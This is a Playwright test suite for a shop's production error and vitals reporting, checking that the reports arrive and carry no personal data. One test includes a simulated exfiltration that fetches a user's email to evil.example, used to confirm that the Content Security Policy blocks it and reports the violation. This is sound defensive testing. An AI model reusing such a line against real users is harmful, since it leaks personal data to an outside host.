import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { fromRoot } from '#src/build/project.ts'
import { expect, test as base } from '#tests/e2e/fixtures.ts'
import { cardProvider, cards, payWithoutRecording, type CardProvider } from '#tests/e2e/real/support/cardProvider.ts'
import { createAccount, placeOrder } from '#tests/e2e/real/support/dbState.ts'
import { expectAppStarted, getPageHeading, logIn } from '#tests/e2e/steps.ts'
import { buildShop, measureGzippedKB, readManifest, findScripts } from '#tests/support/bundle.ts'
import { serveStatic } from '#tests/support/static.ts'
import { reportPort } from '#tests/support/testConfig.ts'
import { startReportReceiver, type ReceivedReport } from '#tests/tools/reports/receiver.ts'

const reportUrl = `http://127.0.0.1:${reportPort}/`

/** A production build with reporting, its URL, and the reports that its pages have sent. */
interface ReportingShop {
  dir: string
  url: string
  receivedReports: ReceivedReport[]
}

/** Playwright's `test` for a build with VITE_REPORT_URL. The pages may log errors, because the tests cause them. */
const test = base.extend<{ cardProvider: CardProvider; receivedReports: ReceivedReport[] }, { shop: ReportingShop }>({
  shop: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's dependencies from this pattern
    async ({}, use) => {
      const dir = fromRoot('node_modules/.cache/reporting')
      buildShop(dir, { VITE_REPORT_URL: reportUrl })
      const receivedReports: ReceivedReport[] = []
      const receiver = await startReportReceiver(reportPort, (reports) => void receivedReports.push(...reports))
      const host = await serveStatic({ dir, fallback: 'spa' })
      await use({ dir, url: host.url, receivedReports })
      await Promise.all([host.stop(), receiver.stop()])
    },
    { scope: 'worker', timeout: 120_000 },
  ],
  receivedReports: async ({ shop: { receivedReports } }, use) => {
    receivedReports.length = 0
    await use(receivedReports)
  },
  baseURL: ({ shop }, use) => use(shop.url),
  quietConsole: undefined,
  cardProvider,
})

// The tests run in one worker, because they share a build and the server that receives the build's reports. The pages
// are painted, because the browser measures vitals only on painted pages.
test.describe.configure({ mode: 'default' })
test.use({ isPainted: true })

const rina = { name: 'Rina Akter', email: 'rina.akter@reports.example', password: 'Workshop!25' }

/** Opens a page, and waits until the reporting code is loaded. */
async function openPage(page: Page, path: string): Promise<void> {
  const reportingCodeResponse = page.waitForResponse(async (response) =>
    response.url().endsWith('.js') ? (await response.text().catch(() => '')).includes('reports+json') : false,
  )
  await page.goto(path)
  await expectAppStarted(page)
  await reportingCodeResponse
}

/** Throws an error that no error boundary in the page catches. */
const throwError = (page: Page, message: string) =>
  page.evaluate((text) => void setTimeout(() => void Promise.reject(new TypeError(text))), message)

/** Expects exactly these reports in addition to the vitals, and no personal data in these reports. */
async function expectReports(receivedReports: ReceivedReport[], ...expected: object[]): Promise<void> {
  const getReports = () => receivedReports.filter(({ type }) => type !== 'vitals')
  await expect.poll(() => getReports().map(({ type, body }) => ({ type, body }))).toMatchObject(expected)
  for (const { url, user_agent, age, body } of getReports()) {
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[a-zA-Z/:]*$/)
    expect(user_agent).toContain('Mozilla')
    expect(age).toBeGreaterThanOrEqual(0)
    expect(body.release).toMatch(/^[\w.-]+$/)
  }
  const text = JSON.stringify(getReports().map(({ user_agent: _, ...checkedFields }) => checkedFields))
  for (const personalText of ['Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
    expect(text).not.toContain(personalText)
}

test.describe('a shop that reports', { tag: '@release' }, () => {
  test('an error is reported once, with its position in the files, and without typed text', async ({
    page,
    receivedReports,
  }) => {
    const errorStatement = `throw new TypeError('${rina.email} is not a function')`
    await page.route('**/assets/AboutRoute-*.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: `export function AboutRoute() { ${errorStatement} }` }),
    )
    await openPage(page, './parts?q=Rina')
    await throwError(page, `${rina.email} is not a function`)
    await throwError(page, `${rina.email} is not a function`)
    const thrownReport = {
      type: 'error',
      body: { source: 'promise', name: 'TypeError', message: '… is not a function' },
    }
    await expectReports(receivedReports, thrownReport)
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'About' }).click()
    await expect(getPageHeading(page, 'We couldn’t load this')).toBeVisible()
    const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
    const caughtReport = { type: 'error', body: { source: 'boundary', page: 'about', stack } }
    await expectReports(receivedReports, thrownReport, caughtReport)
    await page.evaluate((email) => fetch(`https://evil.example/?email=${email}`).then(String, () => null), rina.email)
    const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'about' }
    await expectReports(receivedReports, thrownReport, caughtReport, { type: 'csp-violation', body })
  })

  test('a payment that is charged but not recorded is reported, and reported again once it has recovered', async ({
    page,
    receivedReports,
    cardProvider: { charges },
  }) => {
    await createAccount(rina)
    const order = await placeOrder(rina, 'brake-rotor-345', 22)
    await openPage(page, `./dashboard/payment/${order}`)
    await logIn(page, rina)
    const releaseRecords = await payWithoutRecording(page)
    const transactionId = expect.stringMatching(/^pi_\w+$/)
    const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
    const unrecordedReport = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
    await expectReports(receivedReports, failedCall, unrecordedReport)

    await releaseRecords()
    await page.goto('./dashboard/mypurchases')
    await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
    const recoveredReport = { type: 'payment', body: { state: 'recovered', orderId: order } }
    await expectReports(receivedReports, failedCall, unrecordedReport, recoveredReport)
    expect(charges).toHaveLength(1)
  })

  for (const [destination, leave] of [
    ['a page of the shop', (page, url) => page.goto(`${url}about`)],
    ['another host', (page, url) => page.goto(url.replace('127.0.0.1', 'localhost'))],
    ['an empty screen, because the tab is closed', (page) => page.close({ runBeforeUnload: true })],
  ] satisfies [string, (page: Page, url: string) => Promise<unknown>][])
    test(`the vitals of a page are reported when the visitor leaves it for ${destination}`, async ({
      browser,
      shop: { url },
      receivedReports,
    }) => {
      const context = await browser.newContext()
      const page = await context.newPage()
      await openPage(page, `${url}parts?q=Rina`)
      await page.waitForLoadState('networkidle')
      await leave(page, url)
      const body = { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' }
      await expect.poll(() => receivedReports).toMatchObject([{ type: 'vitals', url: `${url}parts`, body }])
      await context.close()
    })

  test('reporting adds less than 0.4 kB to the first load, and less than 5.5 kB of lazy code (REPORT-3)', ({
    shop: { dir },
  }) => {
    expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
    const getFirstLoadKB = (folder: string) => measureGzippedKB(folder, findScripts(readManifest(folder), 'index.html'))
    expect(getFirstLoadKB(dir) - getFirstLoadKB('dist')).toBeLessThan(0.4)
    const reportingChunk = Object.entries(readManifest(dir)).find(([key]) => key.endsWith('/sendReports.ts'))
    expect(measureGzippedKB(dir, [reportingChunk?.[1].file ?? ''])).toBeLessThan(5.5)
  })
})
